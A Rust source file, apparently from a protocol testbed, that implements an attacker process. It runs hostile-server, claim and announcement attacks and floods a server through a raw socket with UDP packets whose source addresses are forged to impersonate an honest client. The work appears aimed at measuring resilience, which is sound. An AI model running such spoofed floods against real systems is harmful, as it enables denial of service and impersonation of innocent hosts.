//! The attacker; floods leave through a raw socket, with any source address.

use std::net::{SocketAddr, SocketAddrV4};
use std::time::Instant;

use apus_wire::WIRE_OVERHEAD;
use etherparse::PacketBuilder;
use rustix::fd::OwnedFd;
use rustix::net::{AddressFamily, SendFlags, SocketType, ipproto, sendto, socket};
use serde::{Deserialize, Serialize};

use super::attack::Attack;
use super::claims::claim;
use super::forgery::Forgery;
use super::kept::{Announcement, HostileServer, Sent, keep_requests};
use apus_testbed::error::{Doing, Error};
use apus_testbed::process::{Control, Stop};

/// The instructions for an attacker.
#[derive(Debug, Serialize, Deserialize)]
pub(super) struct AttackerSide {
    pub(super) attack: Attack,
    pub(super) server: SocketAddr,
    /// The address of the honest client; unknown to a hostile server, which it calls later.
    pub(super) client: Option<SocketAddr>,
    pub(super) sealed: bool,
    pub(super) seed: u64,
}

/// The result of an attacker.
#[derive(Clone, Copy, Debug, Default, Serialize, Deserialize)]
pub(super) struct Attacked {
    /// Packets sent, and their bytes on an Ethernet link.
    pub(super) packets: u64,
    pub(super) bytes: u64,
    /// Duration of the attack in nanoseconds.
    pub(super) nanos: u64,
}

/// Packets between two checks for the stop order.
const BATCH: usize = 64;

impl AttackerSide {
    /// Attacks until it is stopped.
    pub(super) fn attack(&self, control: &mut Control) -> Result<Attacked, Error> {
        let server = v4(self.server)?;
        if self.attack == Attack::Responses {
            let hostile = HostileServer::open()?;
            control.ready(hostile.address()?)?;
            return self.timed(|| hostile.serve(control.stop()));
        }
        control.ready(self.server)?;
        let stop = control.stop();
        self.timed(|| match (self.attack, self.client) {
            (Attack::Claims, _) => claim(server, stop),
            (Attack::Announcements, _) => keep_requests(server, Announcement::Invented, stop),
            (Attack::Grants, _) => keep_requests(server, Announcement::Honest, stop),
            (attack, Some(client)) => {
                let forgery = Forgery::new((server, v4(client)?), self.sealed, self.seed);
                flood(attack, forgery, stop)
            }
            (attack, None) => {
                Err(Error::Peer(format!("{} is in the name of a client", attack.name())))
            }
        })
    }

    /// Runs the attack, and measures its duration.
    fn timed(&self, attack: impl FnOnce() -> Result<Sent, Error>) -> Result<Attacked, Error> {
        let began = Instant::now();
        let Sent { packets, bytes } = attack()?;
        Ok(Attacked { packets, bytes, nanos: began.elapsed().as_nanos() as u64 })
    }
}

fn v4(address: SocketAddr) -> Result<SocketAddrV4, Error> {
    match address {
        SocketAddr::V4(address) => Ok(address),
        SocketAddr::V6(_) => Err(Error::Peer(format!("{address} is no IPv4 address"))),
    }
}

/// Sends packets without a pause.
fn flood(attack: Attack, mut forgery: Forgery, stop: &Stop) -> Result<Sent, Error> {
    let raw = socket(AddressFamily::INET, SocketType::RAW, Some(ipproto::RAW));
    let raw = raw.map_err(std::io::Error::from).doing(|| "open a raw socket".to_owned())?;
    let server = forgery.server;
    let mut frame = Vec::new();
    let mut sent = Sent::default();
    while !stop.is_asked() {
        for _ in 0..BATCH {
            let (from, packet) = forgery.next(attack);
            frame.clear();
            let ip = PacketBuilder::ipv4(from.ip().octets(), server.ip().octets(), 64);
            ip.udp(from.port(), server.port())
                .write(&mut frame, packet)
                .map_err(std::io::Error::other)
                .doing(|| "write a packet".to_owned())?;
            if send(&raw, &frame, server)? {
                // The frame has its IP and UDP headers already.
                sent.add(Sent { packets: 1, bytes: frame.len() as u64 + WIRE_OVERHEAD - 28 });
            }
        }
    }
    Ok(sent)
}

/// Sends an IP packet. Returns `false` if the system has no room for it.
fn send(raw: &OwnedFd, frame: &[u8], to: SocketAddrV4) -> Result<bool, Error> {
    use rustix::io::Errno;
    match sendto(raw, frame, SendFlags::empty(), &to) {
        Ok(_) => Ok(true),
        Err(Errno::NOBUFS | Errno::AGAIN | Errno::INTR) => Ok(false),
        Err(error) => {
            Err(std::io::Error::from(error)).doing(|| format!("send a forged packet to {to}"))
        }
    }
}
